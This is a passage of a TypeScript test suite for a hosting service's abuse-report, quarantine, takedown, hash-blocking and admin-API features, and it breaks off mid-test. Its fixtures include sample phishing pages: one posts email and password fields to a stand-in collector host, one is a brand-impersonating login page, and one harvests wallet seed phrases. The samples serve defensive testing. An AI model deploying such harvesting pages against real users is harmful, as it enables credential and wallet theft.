import { describe, it, before, after } from 'node:test'
import assert from 'node:assert/strict'
import crypto from 'node:crypto'
import { request } from 'undici'
import { ENGINES, REDIS_URL, needs, startServer, type Res, type TestServer, startSecond } from '../support/server.js'
import { HTML, HIGH_LIMITS, batchUpload, uploadFile } from '../support/hosting.js'
import { exifTiff, imageForm, jpegSegment, makeImage, svc } from '../support/images.js'
import { expectError, expectErrorInBoth } from '../support/errors.js'
import { runCli } from '../cli/run.js'
import { startDns, verifiedDomain, type TestDns } from '../support/dns.js'
import { deploySite, manifestOf, postArchive, tarOf } from '../support/deploys.js'
import { createAbuse } from '../../src/features/abuse/service.js'
import { errorMessage } from '../../src/errors/render.js'
import { INERT_CONTENT_CSP } from '../../src/http/content-headers.js'
import { QUOTA_NAMES } from '../../src/limits/quotas.js'

const sha = (b: string | Buffer) => crypto.createHash('sha256').update(b).digest('hex')
type User = Awaited<ReturnType<TestServer['user']>> & { cookie: string }

/** A page that asks for a password and posts it to another site (the credential-harvesting rule). */
const PHISH = `<!doctype html><html><head><title>Sign in</title></head><body>
<form action="https://collector.example.net/steal" method="post">
<input name="email" type="email"><input name="pw" type="password"><button>Sign in</button></form></body></html>`
/** A login page naming a brand, posting to itself (the brand rule only). */
const BRAND = `<!doctype html><html><head><title>PayPal - Log in to your account</title></head><body>
<form method="post"><input name="u"><input name="p" type="password"></form></body></html>`
const SEED = `<!doctype html><html><body><h1>Restore your wallet</h1><form action="//wallet-sync.example.org/r" method="post">
<textarea name="seed_phrase" placeholder="Enter your 12-word recovery phrase"></textarea><button>Restore</button></form></body></html>`
const BENIGN = HTML(
  'my portfolio',
  '<form action="https://formspree.example.com/f/abc" method="post"><input name="email"><textarea name="msg"></textarea></form>',
)

/** GET on a user's origin (plain HTTP on loopback, Host: {user}.localhost). */
async function onSite(s: TestServer, username: string, path: string, method = 'GET', headers: Record<string, string> = {}) {
  const r = await request(`${s.httpUrl}${path}`, { method: method as 'GET', headers: { host: `${username}.localhost`, ...headers } })
  const text = await r.body.text()
  const h = r.headers as Record<string, string | undefined>
  return { status: r.statusCode, text, header: (n: string) => h[n.toLowerCase()] }
}

/** The 451 notice's words in each language (decision 197). */
const NOTICE = {
  en: {
    lang: 'en',
    title: '451 Unavailable For Legal Reasons',
    held: 'This content is held for review after an abuse report.',
    removed: 'This content was removed after an abuse report.',
    report: 'Report content',
    contact: 'Contact',
  },
  zh: {
    lang: 'zh-CN',
    title: '451 因法律原因不可用',
    held: '该内容因滥用举报正在接受审核。',
    removed: '该内容已因滥用举报被移除。',
    report: '举报内容',
    contact: '联系我们',
  },
} as const
type Lang = keyof typeof NOTICE
/** A visitor's Accept-Language and the language the answer is in; none: the service's default, Chinese. */
const VISITORS: ReadonlyArray<[Record<string, string>, Lang]> = [
  [{ 'accept-language': 'en-GB,en;q=0.9' }, 'en'],
  [{ 'accept-language': 'zh-CN,zh;q=0.9,en;q=0.5' }, 'zh'],
  [{}, 'zh'],
]

/** Checks a 451 notice: its headers (HEAD too) and, for a GET, its words in `lang`. */
function assertNotice(r: { status: number; text: string; header(n: string): string | undefined }, lang: Lang, state: 'held' | 'removed', what: string): void {
  assert.equal(r.status, 451, what)
  assert.equal(r.header('content-type'), 'text/html; charset=utf-8', what)
  assert.equal(r.header('cache-control'), 'no-store', what)
  assert.equal(r.header('content-security-policy'), INERT_CONTENT_CSP, what)
  assert.equal(r.header('vary'), 'Accept-Language', `${what}: the body depends on the language`)
  assert.match(r.header('link') ?? '', /<\/\.well-known\/svc-report>; rel="blocked-by"/, what)
  if (r.text === '') return
  const w = NOTICE[lang]
  assert.match(r.text, new RegExp(`^<!doctype html><html lang="${w.lang}">`), what)
  assert.ok(r.text.includes(`<title>${w.title}</title>`), `${what}: ${r.text}`)
  assert.ok(r.text.includes(`<p>${w[state]}</p>`), `${what}: ${r.text}`)
  assert.match(
    r.text,
    new RegExp(`<a href="/\\.well-known/svc-report\\?url=[^"]+">${w.report}</a> · <a href="/\\.well-known/security\\.txt">${w.contact}</a>`),
    what,
  )
  assert.equal(Buffer.byteLength(r.text), Number(r.header('content-length')), what)
}

/** Registers a test on PostgreSQL only (not a skip on SQLite, where transactions never interleave). */
const onPostgres = (engine: string): typeof it => (engine === 'postgres' ? it : ((() => undefined) as unknown as typeof it))

for (const engine of ENGINES) {
  describe(`abuse handling and the admin API [${engine}]`, () => {
    let s: TestServer
    let admin: User
    let alice: User
    let bob: User
    const adminCall = (method: string, p: string, json?: unknown) => s.request(method, p, { cookie: admin.cookie, ...(json === undefined ? {} : { json }) })
    const report = (json: unknown, headers: Record<string, string> = {}) => s.post('/svc_api/abuse/reports', { json, headers })
    const audit = async () => (await adminCall('GET', '/svc_api/admin/audit?limit=500')).json.data.entries as Array<Record<string, any>>
    /** An admin's report of `url` taken down at once; the report's id. */
    const takeDown = async (url: string, category: string): Promise<string> => {
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url, category })
      assert.equal(rep.status, 201, rep.text)
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/takedown`, {})).status, 200)
      return rep.json.data.id as string
    }
    /**
     * Every link answers 451 to GET, HEAD and GET again (the second GET from the cache), with
     * the removal notice in the visitor's language (none: Chinese; then English).
     */
    const assertRemoved = async (links: string[]) => {
      for (const p of links)
        for (const [method, lang] of [
          ['GET', 'zh'],
          ['HEAD', 'zh'],
          ['GET', 'en'],
        ] as const) {
          const r = await s.request(method, p, { headers: lang === 'en' ? { 'accept-language': 'en' } : {} })
          assertNotice(r, lang, 'removed', `${method} ${p}`)
        }
    }

    before(async () => {
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS } })
      const mk = async (o: { admin?: boolean } = {}) => {
        const u = await s.user(o)
        return { ...u, cookie: await s.login(u.username, u.password) }
      }
      admin = await mk({ admin: true })
      alice = await mk()
      bob = await mk()
    })
    after(() => s.close())

    it('refuses every admin route to a non-admin (403 / 1011) and to no session (401), changing nothing', async () => {
      const routes: Array<[string, string, unknown?]> = [
        ['GET', '/svc_api/admin/users'],
        ['POST', `/svc_api/admin/users/${bob.username}`, { disabled: true }],
        ['POST', '/svc_api/admin/invites', {}],
        ['GET', `/svc_api/admin/content?user=${alice.username}`],
        ['GET', '/svc_api/admin/settings'],
        ['POST', '/svc_api/admin/settings', { registration: 'closed' }],
        ['GET', '/svc_api/admin/audit'],
        ['GET', '/svc_api/admin/audit?format=csv'],
        ['GET', '/svc_api/admin/reports'],
        ['POST', '/svc_api/admin/reports', { url: `${s.url}/${alice.username}/x.html`, category: 'spam' }],
        ['GET', '/svc_api/admin/reports/abc'],
        ['POST', '/svc_api/admin/reports/abc/quarantine'],
        ['POST', '/svc_api/admin/reports/abc/restore'],
        ['POST', '/svc_api/admin/reports/abc/takedown', {}],
        ['POST', '/svc_api/admin/reports/abc/lift'],
        ['POST', '/svc_api/admin/reports/abc/dismiss'],
        ['GET', `/svc_api/admin/reports/abc/evidence/${'a'.repeat(64)}`],
        ['GET', '/svc_api/admin/blocklist'],
      ]
      const before = (await audit()).length
      for (const [method, p, json] of routes) {
        expectError(await s.request(method, p, { cookie: alice.cookie, ...(json === undefined ? {} : { json }) }), 403, 1011)
        const anon = await s.request(method, p, json === undefined ? {} : { json })
        assert.equal(anon.status, 401, `${method} ${p}: ${anon.status}`)
      }
      assert.equal((await s.deps.users.byId(bob.id))?.disabled, false)
      assert.equal((await audit()).length, before)
    })

    it('lists accounts with usage and quotas; sets VIP, limits, disables and enables, each in the audit log', async () => {
      await uploadFile(s, { key: bob.key }, 'one.html', HTML('one'))
      const list = await adminCall('GET', `/svc_api/admin/users?search=${bob.username}`)
      assert.equal(list.status, 200, list.text)
      const row = list.json.data.users.find((u: { username: string }) => u.username === bob.username)
      assert.equal(row.usage.files, 1)
      assert.equal(row.quotas.files, 100)
      let r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { tier: 'vip', limits: { files: 3 } })
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.data.tier, 'vip')
      assert.deepEqual(r.json.data.limits, { files: 3 })
      // the page is served (and so cached) before the account is disabled
      assert.equal((await s.get(`/${bob.username}/one.html`)).status, 200)
      r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { disabled: true })
      assert.equal(r.json.data.disabled, true)
      assert.equal((await s.get('/svc_api/me', { key: bob.key })).status, 403)
      assert.equal((await s.get(`/${bob.username}/one.html`)).status, 404, "a disabled account's pages go offline at once")
      r = await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { disabled: false, limits: { files: null } })
      assert.equal(r.json.data.disabled, false)
      assert.equal((await s.get('/svc_api/me', { key: bob.key })).status, 200)
      assert.equal((await s.get(`/${bob.username}/one.html`)).status, 200, 'and come back when it is enabled')
      // disabling ended bob's sessions
      assert.equal((await s.get('/svc_api/me', { cookie: bob.cookie })).status, 401)
      bob.cookie = await s.login(bob.username, bob.password)
      // bad input: a clear error, nothing changed
      expectError(await adminCall('POST', `/svc_api/admin/users/${bob.username}`, { limits: { nope: 1 } }), 400, 1106)
      expectError(await adminCall('POST', '/svc_api/admin/users/nobody-here', { disabled: true }), 404, 1708)
      expectError(await adminCall('POST', `/svc_api/admin/users/${admin.username}`, { disabled: true }), 400, 1106)
      const log = await audit()
      const mine = log.filter((e) => e.action === 'user.update' && e.target === bob.username)
      assert.equal(mine.length, 3)
      assert.deepEqual(mine[0].details, { disabled: false, limits: { files: null } })
      for (const e of mine) {
        assert.equal(e.actor, admin.username)
        assert.equal(e.via, 'web')
        assert.equal(e.ip, '127.0.0.1')
        assert.equal(typeof e.user_agent, 'string')
      }
      assert.deepEqual(mine[mine.length - 1].details, { tier: 'vip', limits: { files: 3 } })
    })

    it("says each refused admin change whole in the answer's language, changing nothing", async () => {
      const send = (method: string, p: string, json?: unknown) => (headers: Record<string, string>) =>
        s.request(method, p, { cookie: admin.cookie, headers, ...(json === undefined ? {} : { json }) })
      const settings: Array<[Record<string, string>, string, string]> = [
        [
          { colour: 'blue' },
          '未知设置 "colour"（已知：registration、abuse_contact、security_contact、brand_words）',
          'unknown setting "colour" (known: registration, abuse_contact, security_contact, brand_words)',
        ],
        [
          { registration: 'sometimes' },
          'registration 须为以下值之一：open、pending、invite、closed',
          'registration must be one of open, pending, invite, closed',
        ],
        [
          { abuse_contact: 'ftp://example.org' },
          'abuse_contact 须为电子邮件地址、mailto: 或 https:// 网址',
          'abuse_contact must be an e-mail address, mailto: or https:// URL',
        ],
        [{ brand_words: 'x'.repeat(61) }, 'brand_words 最多 200 个词，每个最多 60 个字符', 'brand_words must hold at most 200 words of at most 60 characters'],
      ]
      for (const [json, zh, en] of settings)
        await expectErrorInBoth(send('POST', '/svc_api/admin/settings', json), 400, 1707, `设置无效：${zh}`, `Invalid setting: ${en}`)
      const bad = (p: string, json: unknown, zh: string, en: string, wordless = false) =>
        expectErrorInBoth(send(json === undefined ? 'GET' : 'POST', p, json), 400, 1106, `参数错误：${zh}`, `Invalid parameter: ${en}`, wordless)
      const user = `/svc_api/admin/users/${bob.username}`
      await bad(user, { limits: { nope: 1 } }, `未知限额 "nope"（已知：${QUOTA_NAMES.join('、')}）`, `unknown limit "nope" (known: ${QUOTA_NAMES.join(', ')})`)
      await bad(
        user,
        { limits: { files: 1e16 } },
        'limits.files 须满足以下之一：不能大于 9007199254740991；须为 null 类型',
        'limits.files must satisfy one of: must be at most 9007199254740991; must be of type null',
      )
      await bad(`/svc_api/admin/users/${admin.username}`, { disabled: true }, '不能禁用你自己的账户', 'you cannot disable your own account', true)
      await bad('/svc_api/admin/content', undefined, '请给出 user、url、name 或 hash 之一', 'give user, url, name or hash')
      assert.equal((await s.deps.users.byId(admin.id))?.disabled, false)
      assert.deepEqual((await s.deps.users.byId(bob.id))?.limits, {})
    })

    it('searches content by user, URL, name and hash', async () => {
      const page = HTML('searchable')
      await uploadFile(s, { key: bob.key }, 'findme.html', page)
      const byHash = await adminCall('GET', `/svc_api/admin/content?hash=${sha(page)}`)
      assert.equal(byHash.status, 200, byHash.text)
      assert.deepEqual(
        byHash.json.data.items.map((i: any) => [i.kind, i.username, i.name]),
        [['file', bob.username, 'findme.html']],
      )
      const byUrl = await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(`http://${bob.username}.localhost:8080/findme.html`)}`)
      assert.deepEqual(
        byUrl.json.data.items.map((i: any) => i.name),
        ['findme.html'],
      )
      // a single page's clean URL names the page, as the public host serves it (decision 169)
      for (const url of [`http://${bob.username}.localhost:8080/findme`, `${s.url}/${bob.username}/findme?x=1`]) {
        const clean = await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(url)}`)
        assert.equal(clean.status, 200, clean.text)
        assert.deepEqual(
          clean.json.data.items.map((i: any) => i.name),
          ['findme.html'],
          url,
        )
      }
      // its slash form names a project, and there is none
      await expectErrorInBoth(
        (headers) => s.get(`/svc_api/admin/content?url=${encodeURIComponent(`${s.url}/${bob.username}/findme/`)}`, { cookie: admin.cookie, headers }),
        400,
        1705,
        `无法识别要处理的内容：${bob.username} 没有页面 "findme"`,
        `The content to act on cannot be found: no page "findme" of ${bob.username}`,
      )
      const byName = await adminCall('GET', `/svc_api/admin/content?name=FINDME&user=${bob.username}`)
      assert.equal(byName.json.data.items.length, 1)
      // names are stored in NFC: a name spelled in NFD finds them too
      await uploadFile(s, { key: bob.key }, 'caf\u00e9-menu.html', page)
      for (const name of ['caf\u00e9-menu', 'cafe\u0301-menu']) {
        const spelled = await adminCall('GET', `/svc_api/admin/content?name=${encodeURIComponent(name)}&user=${bob.username}`)
        assert.deepEqual(
          spelled.json.data.items.map((i: any) => i.name),
          ['caf\u00e9-menu.html'],
          name,
        )
      }
      const byUser = await adminCall('GET', `/svc_api/admin/content?user=${bob.username}`)
      assert.ok(byUser.json.data.items.length >= 2)
      expectError(await adminCall('GET', '/svc_api/admin/content'), 400, 1106)
      expectError(await adminCall('GET', `/svc_api/admin/content?url=${encodeURIComponent(`${s.url}/${bob.username}/missing.html`)}`), 400, 1705)
    })

    it('checks settings, refuses a bad one without changing any, and serves security.txt from them', async () => {
      expectError(await adminCall('POST', '/svc_api/admin/settings', { abuse_contact: 'abuse@example.org', registration: 'sometimes' }), 400, 1707)
      expectError(await adminCall('POST', '/svc_api/admin/settings', { colour: 'blue' }), 400, 1707)
      // an inherited name is no setting either
      for (const name of ['constructor', 'toString', 'hasOwnProperty'])
        expectError(await adminCall('POST', '/svc_api/admin/settings', { [name]: 'x' }), 400, 1707)
      let txt = await s.get('/.well-known/security.txt')
      assert.equal(txt.status, 200)
      assert.doesNotMatch(txt.text, /abuse@example\.org/)
      assert.match(txt.text, /^Contact: https:\/\/.+\/report$/m)
      const r = await adminCall('POST', '/svc_api/admin/settings', { abuse_contact: 'abuse@example.org', security_contact: 'https://example.org/security' })
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.data.settings.abuse_contact, 'mailto:abuse@example.org')
      txt = await s.get('/.well-known/security.txt')
      assert.equal(txt.header('content-type'), 'text/plain; charset=utf-8')
      assert.match(txt.text, /^Contact: https:\/\/example\.org\/security$/m)
      assert.match(txt.text, /^Contact: mailto:abuse@example\.org$/m)
      const expires = /^Expires: (.+)$/m.exec(txt.text)?.[1]
      assert.ok(expires && Date.parse(expires) > Date.now() + 300 * 86400_000, 'Expires about a year ahead')
      const log = (await audit()).filter((e) => e.action === 'settings.set')
      assert.deepEqual(log.map((e) => e.target).sort(), ['abuse_contact', 'security_contact'])
      // the console sends every field back on each save: a stored mailto: value stays as it is
      for (let i = 0; i < 2; i++) {
        const again = await adminCall('POST', '/svc_api/admin/settings', { abuse_contact: 'mailto:abuse@example.org' })
        assert.equal(again.json.data.settings.abuse_contact, 'mailto:abuse@example.org')
      }
      assert.match((await s.get('/.well-known/security.txt')).text, /^Contact: mailto:abuse@example\.org$/m)
      // a user's origin sends security.txt and the report link to the service's own
      const site = await onSite(s, alice.username, '/.well-known/security.txt')
      assert.equal(site.status, 302)
      assert.match(site.header('location')!, /^https:\/\/localhost:\d+\/\.well-known\/security\.txt$/)
    })

    it('refuses bad reports with a clear error and stores nothing', async () => {
      const count = async () => (await adminCall('GET', '/svc_api/admin/reports')).json.data.total as number
      const n = await count()
      expectError(await report({ url: 'not a url', category: 'spam' }), 400, 1702)
      expectError(await report({ url: 'javascript:alert(1)', category: 'spam' }), 400, 1702)
      expectError(await report({ url: `${s.url}/x/y`, category: 'rude' }), 400, 1106)
      expectError(await report({ category: 'spam' }), 400, 1106)
      expectError(await report({ url: `${s.url}/x/y`, category: 'spam', details: 'a\u0000b' }), 400, 1702)
      expectError(await s.post('/svc_api/abuse/reports', { body: '{', headers: { 'content-type': 'application/json' } }), 400, 1113)
      assert.equal(await count(), n)
    })

    it("says a refused report, an unknown target and a wrong state whole in the answer's language", async () => {
      const invalid: Array<[unknown, string, string, boolean]> = [
        [{ url: 'not a url', category: 'spam' }, 'url 须为绝对 http(s) 网址', 'url must be an absolute http(s) URL', false],
        [{ url: '   ', category: 'spam' }, 'url 须为 1-2000 个字符', 'url must be 1-2000 characters', false],
        [{ url: `${s.url}/x/y`, category: 'spam', details: 'a\u0000b' }, '不允许包含控制字符', 'control characters are not allowed', true],
      ]
      for (const [json, zh, en, wordless] of invalid)
        await expectErrorInBoth((headers) => report(json, headers), 400, 1702, `举报无效：${zh}`, `Invalid report: ${en}`, wordless)
      const content = (url: string) => (headers: Record<string, string>) =>
        s.get(`/svc_api/admin/content?url=${encodeURIComponent(url)}`, { cookie: admin.cookie, headers })
      const unknown: Array<[string, string, string, boolean]> = [
        [`${s.url}/${bob.username}/missing.html`, `${bob.username} 没有页面 "missing.html"`, `no page "missing.html" of ${bob.username}`, false],
        [`${s.url}/nobody-here/a.html`, '没有用户 "nobody-here"', 'no user "nobody-here"', false],
        [`${s.url}/svc-img/pub/${'a'.repeat(22)}`, '没有这张图片', 'no such image', true],
        [`${s.url}/svc-data/pub/${'a'.repeat(22)}`, '没有这个数据链接', 'no such data link', true],
        [`${s.url}/`, '该网址不指向任何页面、图片或数据链接', 'the URL names no page, image or data link', true],
        ['not a url', '不是网址', 'not a URL', true],
      ]
      for (const [url, zh, en, wordless] of unknown)
        await expectErrorInBoth(content(url), 400, 1705, `无法识别要处理的内容：${zh}`, `The content to act on cannot be found: ${en}`, wordless)
      await uploadFile(s, { key: bob.key }, 'stated.html', HTML('stated'))
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/${bob.username}/stated.html`, category: 'other' })
      assert.equal(rep.status, 201, rep.text)
      const id = rep.json.data.id
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${id}/dismiss`, {})).status, 200)
      await expectErrorInBoth(
        (headers) => s.post(`/svc_api/admin/reports/${id}/quarantine`, { cookie: admin.cookie, headers }),
        409,
        1706,
        '内容状态不允许此操作：不能隔离已驳回的举报',
        "Not possible in the content's current state: cannot quarantine a report that is dismissed",
        true,
      )
    })

    it('report -> queue -> quarantine (451 on the path form and the user origin) -> restore -> takedown -> re-upload refused by hash -> lift', async () => {
      const page = HTML('totally legit bank', '<p>evidence</p>')
      assert.equal((await uploadFile(s, { key: alice.key }, 'bank.html', page)).status, 200)
      const pathForm = `/${alice.username}/bank.html`
      assert.equal((await s.get(pathForm)).status, 200)
      assert.equal((await onSite(s, alice.username, '/bank.html')).status, 200)

      // the public report: no login
      const rep = await report({
        url: `http://${alice.username}.localhost:8080/bank.html`,
        category: 'phishing',
        details: 'asks for my bank password',
        contact: 'me@example.com',
      })
      assert.equal(rep.status, 201, rep.text)
      const id = rep.json.data.id as string
      const queue = await adminCall('GET', '/svc_api/admin/reports?status=open')
      const item = queue.json.data.reports.find((r: any) => r.id === id)
      assert.equal(item.target, `site:${alice.username}/bank.html`)
      assert.equal(item.category, 'phishing')
      assert.equal(item.contact, 'me@example.com')

      // quarantine: 451 everywhere, bytes kept as evidence, the owner's row kept
      let r = await adminCall('POST', `/svc_api/admin/reports/${id}/quarantine`)
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.data.status, 'quarantined')
      assert.deepEqual(
        r.json.data.evidence.map((e: any) => [e.path, e.digest]),
        [['bank.html', sha(page)]],
      )
      for (const method of ['GET', 'HEAD']) {
        const p = await s.request(method, pathForm)
        assert.equal(p.status, 451, `${method} path form`)
        const o = await onSite(s, alice.username, '/bank.html', method)
        assert.equal(o.status, 451, `${method} user origin`)
        if (method === 'GET') {
          assert.match(p.text, /正在接受审核/)
          assert.match(o.text, /正在接受审核/)
          // each notice's report link names the page it stands for
          assert.match(p.text, new RegExp(`svc-report\\?url=https%3A%2F%2F127\\.0\\.0\\.1%3A\\d+%2F${alice.username}%2Fbank\\.html"`))
          assert.match(o.text, new RegExp(`svc-report\\?url=http%3A%2F%2F${alice.username}\\.localhost%2Fbank\\.html"`))
          assert.match(o.header('content-security-policy')!, /sandbox/)
          assert.match(p.header('link')!, /<\/\.well-known\/svc-report>; rel="blocked-by"/)
        }
      }
      // a browser navigating to the path form goes to the user's origin, which answers 451 too
      const nav = await s.get(pathForm, { headers: { 'sec-fetch-dest': 'document' } })
      assert.equal(nav.status, 302)
      assert.equal((await onSite(s, alice.username, new URL(nav.header('location')!).pathname)).status, 451)
      assert.ok(await s.deps.db.k.selectFrom('files').select('id').where('file_name', '=', 'bank.html').executeTakeFirst(), 'kept as evidence')
      const ev = await s.request('GET', `/svc_api/admin/reports/${id}/evidence/${sha(page)}`, { cookie: admin.cookie })
      assert.equal(ev.status, 200)
      assert.equal(ev.text, page)
      assert.match(ev.header('content-disposition')!, /^attachment/)
      // other content of the same user is untouched
      await uploadFile(s, { key: alice.key }, 'fine.html', HTML('fine'))
      assert.equal((await s.get(`/${alice.username}/fine.html`)).status, 200)
      expectError(await adminCall('POST', `/svc_api/admin/reports/${id}/quarantine`), 409, 1706)
      // the owner's listing says which page is held, and only that one
      const marked = async () =>
        Object.fromEntries(((await s.get('/svc_api/files', { key: alice.key })).json.data.files as any[]).map((f) => [f.file_name, f.quarantined ?? false]))
      assert.deepEqual(await marked(), { 'bank.html': true, 'fine.html': false })

      // restore: served again
      r = await adminCall('POST', `/svc_api/admin/reports/${id}/restore`)
      assert.equal(r.json.data.status, 'restored')
      assert.deepEqual(await marked(), { 'bank.html': false, 'fine.html': false })
      assert.equal((await s.get(pathForm)).text, page)
      assert.equal((await onSite(s, alice.username, '/bank.html')).status, 200)

      // takedown: removed, still 451, the hash is blocked on every upload path, the account disabled
      r = await adminCall('POST', `/svc_api/admin/reports/${id}/takedown`, { disable_account: true })
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.data.status, 'taken_down')
      assert.equal((await s.get(pathForm)).status, 451)
      assert.match((await s.get(pathForm)).text, /已因滥用举报被移除/)
      assert.equal(await s.deps.db.k.selectFrom('files').select('id').where('file_name', '=', 'bank.html').executeTakeFirst(), undefined)
      assert.equal((await s.deps.users.byId(alice.id))?.disabled, true)
      assert.ok(await s.deps.blobs.exists(sha(page)), 'the evidence blob stays')
      const block = await adminCall('GET', '/svc_api/admin/blocklist')
      assert.ok(block.json.data.digests.some((d: any) => d.digest === sha(page)))

      // bob uploads the same bytes: refused everywhere, nothing recorded
      expectError(await uploadFile(s, { key: bob.key }, 'copy.html', page), 451, 'CONTENT_BLOCKED')
      const batch = await batchUpload(s, { key: bob.key }, 'mirror', [{ filename: 'index.html', data: page }])
      expectError(batch, 451, 1701)
      await svc(s, 'grant', bob.username, 'hosted-data')
      const data = await s.post('/api/hosted-data/files', { cookie: bob.cookie, json: { display_name: 'copy.txt', content: page, content_type: 'text/plain' } })
      expectError(data, 451, 'plain')
      assert.equal((await s.get(`/${bob.username}/copy.html`)).status, 404)
      assert.equal(await s.deps.db.k.selectFrom('folders').select('id').where('name', '=', 'mirror').executeTakeFirst(), undefined)
      // a different page still uploads
      assert.equal((await uploadFile(s, { key: bob.key }, 'other.html', HTML('other'))).status, 200)

      // lift: the hash may be uploaded again and the URL no longer answers 451
      r = await adminCall('POST', `/svc_api/admin/reports/${id}/lift`)
      assert.equal(r.json.data.status, 'lifted')
      assert.equal((await uploadFile(s, { key: bob.key }, 'copy.html', page)).status, 200)
      assert.equal((await s.get(pathForm)).status, 404)

      const actions = (await audit()).filter((e) => e.target === `site:${alice.username}/bank.html`).map((e) => e.action)
      assert.deepEqual(actions.reverse(), ['abuse.quarantine', 'abuse.restore', 'abuse.takedown', 'abuse.lift'])
      await adminCall('POST', `/svc_api/admin/users/${alice.username}`, { disabled: false })
    })

    // a page reported at its clean URL (`/offer`, what visitors saw and shared: decision 169)
    // answered the notice there while held, then a plain 404 once taken down: its rows were gone,
    // so the clean URL named no page, and the hold is keyed by the page's name
    it('a page taken down at its clean URL keeps answering 451 there, on both forms, until lifted', async () => {
      const page = HTML('limited offer', '<p>clean url evidence</p>')
      assert.equal((await uploadFile(s, { key: bob.key }, 'offer.html', page)).status, 200)
      const clean = [
        () => s.get(`/${bob.username}/offer`),
        () => onSite(s, bob.username, '/offer'),
        () => s.get(`/${bob.username}/offer.html`),
        () => onSite(s, bob.username, '/offer.html'),
      ]
      for (const get of clean) assert.equal((await get()).status, 200)
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url: `http://${bob.username}.localhost:8080/offer`, category: 'phishing' })
      assert.equal(rep.status, 201, rep.text)
      assert.equal(rep.json.data.target, `site:${bob.username}/offer.html`)
      const td = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/takedown`, {})
      assert.equal(td.status, 200, td.text)
      for (const [i, get] of clean.entries()) {
        const r = await get()
        assert.equal(r.status, 451, `url ${i}: ${r.text.slice(0, 200)}`)
        assert.match(r.text, /已因滥用举报被移除/)
        // the user's origin drops what the page stored there, its service workers included;
        // the path form's origin is the service's, which keeps its own
        assert.equal(r.header('clear-site-data'), i % 2 === 1 ? '"storage"' : undefined, `url ${i}`)
      }
      // its report link names the URL asked for, the clean one
      assert.match((await onSite(s, bob.username, '/offer')).text, new RegExp(`svc-report\\?url=http%3A%2F%2F${bob.username}\\.localhost%2Foffer"`))
      // a published project of the name still wins over the held page's name
      const dep = await deploySite(s, bob.key, 'offer', { 'index.html': HTML('a project named offer') })
      assert.ok(dep.res.status < 300, dep.res.text)
      assert.equal((await s.get(`/${bob.username}/offer/`)).status, 200)
      const lift = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/lift`)
      assert.equal(lift.status, 200, lift.text)
      assert.equal((await onSite(s, bob.username, '/offer.html')).status, 404)
    })

    it('a takedown also refuses a deploy that only names the bytes, its check, and a publish of a project still holding them', async () => {
      const m = await s.user()
      const bad = HTML('wallet login', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      assert.equal((await deploySite(s, m.key, 'evil', { 'index.html': bad })).res.status, 201)
      // the same bytes in a project never published (a batch upload makes one)
      assert.equal((await batchUpload(s, { key: m.key }, 'stash', [{ filename: 'index.html', data: bad }])).status, 200)
      await takeDown(`${s.url}/${m.username}/evil/`, 'phishing')
      const files = { 'index.html': bad }
      expectError(await s.post('/api/folders/again/deploys/missing', { key: m.key, json: JSON.parse(String(manifestOf(files).data)) }), 451, 1701)
      expectError(await postArchive(s, m.key, 'again', await tarOf([manifestOf(files)])), 451, 1701)
      expectError(await s.post('/api/folders/stash/publish', { key: m.key }), 451, 1701)
      // nor does its owner read them back through the file read
      expectError(await s.get('/api/folders/stash/file/index.html', { key: m.key }), 451, 1701)
      for (const p of ['again', 'stash']) assert.equal((await s.get(`/${m.username}/${p}/`)).status, 404, p)
      assert.equal((await s.get(`/${m.username}/evil/`)).status, 451)
      // the project's own origin answers 451 and has visitors' browsers drop its storage and
      // service workers, which would go on serving the removed pages from their caches
      for (const path of ['/', '/sw.js']) {
        const r = await request(`${s.httpUrl}${path}`, { headers: { host: `evil.${m.username}.localhost`, 'service-worker': 'script' } })
        await r.body.text()
        assert.equal(r.statusCode, 451, path)
        assert.equal(r.headers['clear-site-data'], '"storage"', path)
      }
      assert.equal((await s.get(`/${m.username}/evil/`)).header('clear-site-data'), undefined, 'never on the path form')
    })

    it("a project's takedown keeps and blocks the bytes only its preview or an older deploy holds, sparing what others published first", async () => {
      const m = await s.user()
      const other = await s.user()
      const lib = `/* lib ${crypto.randomBytes(6).toString('hex')} */`
      assert.equal((await deploySite(s, other.key, 'lib', { 'index.html': HTML('lib'), 'lib.js': lib })).res.status, 201)
      const old = HTML('old login', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      const live = HTML('harmless', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      const draft = HTML('wallet login', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      const first = await deploySite(s, m.key, 'promo', { 'index.html': old })
      assert.equal(first.res.status, 201, first.res.text)
      assert.equal((await deploySite(s, m.key, 'promo', { 'index.html': live })).res.status, 201)
      // the phishing page is in a preview only, served at its own origin, never live
      const preview = await deploySite(s, m.key, 'promo', { 'index.html': live, 'login.html': draft, 'lib.js': lib }, { preview: true })
      assert.equal(preview.res.status, 201, preview.res.text)
      const reportId = await takeDown(`${preview.res.json.preview_origin_url}login.html`, 'phishing')
      const evidence = (await adminCall('GET', `/svc_api/admin/reports/${reportId}`)).json.data.evidence as Array<{ path: string; digest: string }>
      const byPath = new Map(evidence.map((e) => [e.path, e.digest]))
      assert.equal(byPath.get(`promo@${preview.res.json.deploy.id}/login.html`), sha(draft), JSON.stringify(evidence))
      assert.equal(byPath.get(`promo@${first.res.json.deploy.id}/index.html`), sha(old), JSON.stringify(evidence))
      const blocked = new Set(((await adminCall('GET', '/svc_api/admin/blocklist')).json.data.digests as Array<{ digest: string }>).map((d) => d.digest))
      for (const [what, bytes] of [
        ['the preview page', draft],
        ['the older deploy page', old],
        ['the live page', live],
      ])
